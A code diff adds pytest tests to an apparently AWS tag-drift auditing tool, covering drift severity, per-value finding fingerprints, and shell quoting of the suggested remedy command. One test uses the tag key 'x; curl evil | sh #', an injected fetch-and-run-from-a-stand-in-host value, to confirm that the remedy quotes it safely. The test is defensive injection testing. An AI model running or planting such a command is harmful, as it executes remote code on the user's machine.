@@ -122,6 +122,28 @@ def test_an_account_that_is_not_vended_yet_is_no_drift() -> None:
     assert ids(audit(zone(files), SEEN)) == {}
 
 
+def test_settling_is_only_what_was_changed_just_now() -> None:
+    """A tag that somebody adds in AWS meanwhile is drift as ever, whatever ref is named."""
+    report = audit(ZONE, _live("dev-web", tier="vpn"), ZONE)
+
+    assert Severity.CRITICAL in {found.severity for found in report.findings if found.id == "tag-drift-decision"}
+
+
+def test_another_value_is_another_finding() -> None:
+    """Who accepted one did not accept the next."""
+    one, other = (audit(ZONE, _live("dev-web", environment=value)).findings for value in ("prod", "staging"))
+
+    assert not {found.fingerprint for found in one} & {found.fingerprint for found in other}
+
+
+def test_a_key_that_a_shell_would_read_is_quoted() -> None:
+    """The remedy is a command to type."""
+    report = audit(ZONE, _live("dev-web", **{"x; curl evil | sh #": "1"}))
+    found = next(each for each in report.findings if each.id == "tag-drift-stale-live")
+
+    assert found.remedy.endswith("--tag-keys 'x; curl evil | sh #'")
+
+
 @pytest.mark.parametrize("email", ["AWS+DEV-WEB@acme.com"])
 def test_accounts_join_by_address_in_lower_case(email: str) -> None:
     """AWS and a request may differ in case."""
